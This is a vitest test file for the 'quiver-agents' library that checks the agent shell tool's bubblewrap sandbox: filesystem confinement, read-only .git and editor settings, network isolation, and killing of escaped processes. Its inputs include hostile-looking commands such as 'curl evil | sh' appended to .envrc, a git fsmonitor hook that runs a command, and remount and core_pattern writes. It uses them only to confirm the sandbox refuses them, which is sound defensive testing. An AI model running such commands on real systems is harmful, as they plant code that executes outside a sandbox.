import { execFileSync } from "node:child_process";
import {
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { createServer } from "node:net";
import { homedir } from "node:os";
import { join } from "node:path";
import { Agent, Runner, ScriptedModel, StandardPermissions } from "quiver-agents";
import { workspace } from "quiver-agents/workspace";
import { describe, expect, it } from "vitest";
import { call, play, tempDir } from "./helpers.js";

const root = tempDir("quiver-sandbox-");

/**
 * Whether the shell runs commands in bubblewrap on this machine, as its own first line says (CI
 * installs bubblewrap: there its absence is a failure, not a skip).
 */
const sandboxed = (
  await call(workspace({ root, shell: true }).tools, "shell", { command: "true" })
).output.includes("sandboxed: bwrap");

async function shell(
  command: string,
  options: Record<string, unknown> = {},
  extra: Record<string, unknown> = {},
) {
  const ws = workspace({ root, shell: options });
  return call(ws.tools, "shell", { command, ...extra });
}

/** A number unique to this test run, so a process can be recognised by its command line. */
function unique(): string {
  return `${4000 + Math.floor(Math.random() * 5000)}.${Math.floor(Math.random() * 1000)}`;
}

/** Pids of processes whose command line contains `marker` (read from /proc, so no `ps` needed). */
function pidsOf(marker: string): number[] {
  const pids: number[] = [];
  for (const entry of readdirSync("/proc")) {
    if (!/^\d+$/.test(entry) || Number(entry) === process.pid) continue;
    try {
      if (readFileSync(`/proc/${entry}/cmdline`, "utf8").replaceAll("\0", " ").includes(marker))
        pids.push(Number(entry));
    } catch {
      // Gone.
    }
  }
  return pids;
}

function alive(pid: number): boolean {
  try {
    process.kill(pid, 0);
    const state = readFileSync(`/proc/${pid}/stat`, "utf8").split(") ")[1]?.[0];
    return state !== "Z";
  } catch {
    return false;
  }
}

/** The pids still alive after up to 3 s (a SIGKILLed process takes a moment to be torn down under load). */
async function survivors(pids: number[]): Promise<number[]> {
  const deadline = Date.now() + 3_000;
  while (pids.some(alive) && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
  return pids.filter(alive);
}

describe("the shell's sandbox", () => {
  it("bubblewrap is present and works where CI runs", () => {
    if (process.env.CI)
      expect(sandboxed, "CI installs bubblewrap (.ci/run): bwrap must work there").toBe(true);
    // Locally without bwrap, the fallback path is what the other tests check.
  });

  it("says in the first line whether the command ran in the sandbox", async () => {
    const auto = await shell("echo hi");
    expect(auto.output).toMatch(
      sandboxed
        ? /^\[exit code 0, [\d.]+ s, sandboxed: bwrap, no network\]\nhi\n$/
        : /^\[exit code 0, [\d.]+ s, not sandboxed\]\nhi\n$/,
    );
    const off = await shell("echo hi", { sandbox: "off" });
    expect(off.output).toMatch(/^\[exit code 0, [\d.]+ s, not sandboxed\]\n/);
  });

  it("names the signal that killed a command, in the sandbox too", async () => {
    for (const sandbox of ["off", "auto"] as const) {
      const { result, records } = await play(workspace({ root, shell: { sandbox } }).tools, [
        { name: "shell", args: { command: "kill -9 $$" } },
      ]);
      const details = result.messages.find((m) => m.role === "tool")?.details as { signal: string };
      expect(details.signal, sandbox).toBe("SIGKILL");
      expect(records[0]!.output).toMatch(
        sandboxed && sandbox === "auto"
          ? /^\[killed by SIGKILL \(exit code 137 from the sandbox\), [\d.]+ s, no output, sandboxed: bwrap/
          : /^\[killed by SIGKILL, [\d.]+ s, not sandboxed\]/,
      );
    }
  });

  for (const sandbox of ["off", "auto"] as const) {
    it(`sandbox "${sandbox}": setsid'd children and daemons do not outlive the call`, async () => {
      const [a, b, c, d, e] = [unique(), unique(), unique(), unique(), unique()];
      // A setsid'd background job, `setsid -f` (forks, so the parent exits at once), a daemon that
      // double-forks with its output closed, one that clears its environment, and one still
      // running when the timeout hits.
      const command = [
        `setsid sleep ${a} &`,
        `setsid env -i sleep ${e} &`,
        `setsid -f sleep ${b}`,
        `setsid -f sh -c 'sleep ${c} </dev/null >/dev/null 2>&1 &'`,
        "sleep 0.3",
        "echo started",
      ].join("\n");
      const record = await shell(command, { sandbox });
      expect(record.output).toContain("started");
      expect(await survivors([a, b, c, e].flatMap(pidsOf))).toEqual([]);
      // A setsid'd process still running when the timeout stops the call.
      const timedOut = await shell(`setsid sleep ${d} & sleep 30`, { sandbox }, { timeout_ms: 500 });
      expect(timedOut.output).toContain("[timed out after");
      expect(await survivors(pidsOf(d))).toEqual([]);
    });
  }

  it("cancelling the run stops a sandboxed command and everything it started", async () => {
    const [a, b] = [unique(), unique()];
    const ws = workspace({ root, shell: true });
    const command = `setsid -f sleep ${a}; (trap '' TERM; sleep ${b}) & echo up; wait`;
    const agent = new Agent({
      name: "worker",
      model: new ScriptedModel([{ toolCalls: [{ name: "shell", args: { command } }] }]),
      tools: ws.tools,
      permissions: new StandardPermissions({ mode: "bypass" }),
    });
    const handle = Runner.stream(agent, "go");
    for await (const ev of handle) if (ev.type === "tool_call_update") handle.cancel("stop");
    expect((await handle.result()).stopReason).toBe("cancelled");
    // The member ignoring SIGTERM goes with the SIGKILL after the grace period.
    const deadline = Date.now() + 8_000;
    while ([a, b].flatMap(pidsOf).length > 0 && Date.now() < deadline)
      await new Promise((r) => setTimeout(r, 50));
    expect([a, b].flatMap(pidsOf)).toEqual([]);
  });

  it('sandbox "off": the escaped processes are killed by pid, checked with kill(pid, 0)', async () => {
    const record = await shell(
      "setsid sleep 31 & echo $!; setsid -f sh -c 'echo $$; exec sleep 32'; sleep 0.3",
      { sandbox: "off" },
    );
    const pids = [...record.output.matchAll(/^(\d+)$/gm)].map((m) => Number(m[1]));
    expect(pids).toHaveLength(2);
    expect(await survivors(pids)).toEqual([]);
  });

  it("in the sandbox only the root and a private /tmp are writable, and root cannot remount", async () => {
    const tag = `quiver-sandbox-${process.pid}-${Date.now()}`;
    const home = homedir();
    const command = [
      "touch inside.txt && echo root-writable",
      `touch /usr/${tag} 2>/dev/null || echo usr-refused`,
      `touch ${home}/${tag} 2>/dev/null || echo home-refused`,
      `echo x > /tmp/${tag} && echo tmp-writable`,
      `mount -o remount,rw / 2>/dev/null; touch /etc/${tag} 2>/dev/null || echo remount-refused`,
      "cat /proc/sys/kernel/core_pattern > /proc/sys/kernel/core_pattern 2>/dev/null || echo sysctl-refused",
    ].join("\n");
    try {
      const record = await shell(command);
      expect(record.output).toContain("root-writable");
      expect(existsSync(join(root, "inside.txt"))).toBe(true);
      if (!sandboxed) {
        expect(record.output).toContain("not sandboxed");
        return;
      }
      for (const word of [
        "usr-refused",
        "home-refused",
        "tmp-writable",
        "remount-refused",
        "sysctl-refused",
      ]) {
        expect(record.output).toContain(word);
      }
      expect(existsSync(`/usr/${tag}`)).toBe(false);
      expect(existsSync(join(home, tag))).toBe(false);
      expect(existsSync(`/tmp/${tag}`)).toBe(false);
      expect(existsSync(`/etc/${tag}`)).toBe(false);
    } finally {
      for (const path of [`/usr/${tag}`, join(home, tag), `/tmp/${tag}`, `/etc/${tag}`])
        rmSync(path, { force: true });
    }
  });

  it("the root's .git, hooks, environment and editor settings are read-only inside (security audit 2, finding 5)", async () => {
    const repo = join(root, "repo-read-only");
    const marker = join(root, "ran-outside-the-sandbox");
    mkdirSync(join(repo, ".vscode"), { recursive: true });
    mkdirSync(join(repo, "node_modules"));
    execFileSync("git", ["init", "-q"], { cwd: repo });
    writeFileSync(join(repo, ".envrc"), "export A=1\n");
    writeFileSync(join(repo, "package.json"), "{}\n");
    const config = readFileSync(join(repo, ".git/config"), "utf8");
    const command = [
      `git config core.fsmonitor 'date > ${marker}; false' 2>/dev/null || echo config-refused`,
      "(echo 'date > x' > .git/hooks/pre-commit) 2>/dev/null || echo hook-refused",
      "(echo 'curl evil | sh' >> .envrc) 2>/dev/null || echo envrc-refused",
      "(echo '{}' > .vscode/tasks.json) 2>/dev/null || echo vscode-refused",
      "echo '{\"scripts\":{}}' > package.json && touch node_modules/installed new.txt && echo installs-work",
      "git status --short > /dev/null && echo status-works",
    ].join("\n");
    const ws = workspace({ root: repo, shell: true });
    const record = await call(ws.tools, "shell", { command });
    if (!sandboxed) return;
    for (const word of [
      "config-refused",
      "hook-refused",
      "envrc-refused",
      "vscode-refused",
      "installs-work",
      "status-works",
    ]) {
      expect(record.output).toContain(word);
    }
    expect(readFileSync(join(repo, ".git/config"), "utf8")).toBe(config);
    expect(existsSync(join(repo, ".git/hooks/pre-commit"))).toBe(false);
    expect(readFileSync(join(repo, ".envrc"), "utf8")).toBe("export A=1\n");
    expect(existsSync(join(repo, ".vscode/tasks.json"))).toBe(false);
    expect(existsSync(join(repo, "node_modules/installed"))).toBe(true);
    // The developer's own git, outside the sandbox, runs nothing the command planted.
    execFileSync("git", ["status", "--short"], { cwd: repo, stdio: "ignore" });
    expect(existsSync(marker)).toBe(false);
  });

  it("a root that is not a repository runs as before, and protectedPaths: [] leaves .git writable", async () => {
    const plain = join(root, "not-a-repo");
    mkdirSync(plain);
    const fresh = await call(workspace({ root: plain, shell: true }).tools, "shell", {
      command: "touch made.txt && echo ok",
    });
    expect(fresh.output).toContain("ok");
    expect(existsSync(join(plain, "made.txt"))).toBe(true);
    const repo = join(root, "repo-unprotected");
    mkdirSync(repo);
    execFileSync("git", ["init", "-q"], { cwd: repo });
    const ws = workspace({ root: repo, shell: true, protectedPaths: [] });
    const record = await call(ws.tools, "shell", { command: "git config quiver.test yes && echo set" });
    expect(record.output).toContain("set");
    expect(readFileSync(join(repo, ".git/config"), "utf8")).toContain("test = yes");
  });

  it("the network is off in the sandbox unless network: true", async () => {
    const server = createServer((socket) => socket.end("hello\n"));
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    try {
      const { port } = server.address() as { port: number };
      const probe = `exec 3<>/dev/tcp/127.0.0.1/${port} && head -1 <&3 || echo unreachable`;
      const off = await shell(probe);
      const on = await shell(probe, { network: true });
      expect(on.output).toContain("hello");
      if (!sandboxed) return;
      // The sandbox's 127.0.0.1 is its own loopback: the test's server is not there.
      expect(off.output).toContain("unreachable");
      expect(off.output).toContain("sandboxed: bwrap, no network");
      expect(on.output).toContain("sandboxed: bwrap, network on");
    } finally {
      server.close();
    }
  });

  it('"required" refuses to run without bwrap on PATH; "auto" falls back', async () => {
    // A PATH with bash and coreutils but no bwrap.
    const bin = join(root, "bin-without-bwrap");
    mkdirSync(bin, { recursive: true });
    for (const tool of ["bash", "sh", "touch", "echo", "cat"]) {
      const target = execFileSync("bash", ["-c", `command -v ${tool}`], { encoding: "utf8" }).trim();
      if (target.startsWith("/")) symlinkSync(target, join(bin, tool));
    }
    const env = { PATH: bin };
    const refused = await shell("touch ran-anyway", { sandbox: "required", env });
    expect(refused.ok).toBe(false);
    expect(refused.output).toContain(
      "the shell's sandbox is required, but bwrap (bubblewrap) is not on PATH",
    );
    expect(existsSync(join(root, "ran-anyway"))).toBe(false);
    const fallback = await shell("echo ran", { sandbox: "auto", env });
    expect(fallback.output).toMatch(/^\[exit code 0, [\d.]+ s, not sandboxed\]\nran\n/);
    const required = await shell("echo ran", { sandbox: "required" });
    if (sandboxed) expect(required.output).toContain("sandboxed: bwrap");
    else expect(required.ok).toBe(false);
  });
});
